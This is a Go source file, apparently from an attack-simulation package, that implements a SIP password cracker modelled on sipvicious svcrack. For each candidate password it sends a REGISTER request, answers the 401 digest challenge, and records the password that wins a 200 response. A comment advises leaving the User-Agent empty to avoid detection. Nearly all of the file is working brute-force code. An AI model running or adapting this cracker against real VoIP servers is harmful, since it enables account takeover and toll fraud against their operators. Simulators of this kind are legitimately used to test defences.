package sim

import (
	"context"
	"fmt"
)

// Cracker guesses the password of one account like sipvicious svcrack:
// for each candidate it sends a REGISTER, takes the 401 challenge and
// answers it with a digest computed from the candidate.
type Cracker struct {
	Attack
	// Account is the extension under attack.
	Account string
	// Passwords are tried in order; the attack stops at the first 200.
	Passwords []string
	// Domain is the SIP domain (digest URI host); empty means the target IP.
	Domain string
	// UserAgent is sent in every request; empty means none, as a careful
	// attacker would do.
	UserAgent string
}

// Run tries the passwords and reports the answers; Found holds the
// password that got 200, if any. It stops early when the target goes
// silent or ctx ends.
func (c Cracker) Run(ctx context.Context) (AttackReport, error) {
	t := newTally("cracker", c.Attack)
	p, err := newPeer(ctx, c.Source, c.Target)
	if err != nil {
		return t.done(), err
	}
	defer p.Close()
	domain := domainOr(c.Domain, c.Target)
	uri := "sip:" + domain
	callID := randHex(12)
	cseq := 0
	for _, pw := range c.Passwords {
		cseq++
		req := rawRequest{Method: "REGISTER", URI: uri, FromUser: c.Account, ToUser: c.Account,
			Domain: domain, UserAgent: c.UserAgent, CallID: callID, CSeq: cseq}
		res, err := p.exchange(ctx, req, c.timeout())
		code := statusCode(res)
		stop, fatal := t.record(code, err)
		if fatal != nil {
			return t.done(), fatal
		}
		if stop {
			break
		}
		if code == 401 {
			auth, err := authorization(res, "REGISTER", uri, c.Account, pw)
			if err != nil {
				return t.done(), fmt.Errorf("sim: cracker: %w", err)
			}
			cseq++
			req.CSeq, req.Extra = cseq, []string{auth}
			res, err = p.exchange(ctx, req, c.timeout())
			code = statusCode(res)
			stop, fatal = t.record(code, err)
			if fatal != nil {
				return t.done(), fatal
			}
			if code == 200 {
				t.r.Found = append(t.r.Found, pw)
				break
			}
			if stop {
				break
			}
		}
		if !pause(ctx, c.Interval) {
			break
		}
	}
	return t.done(), nil
}
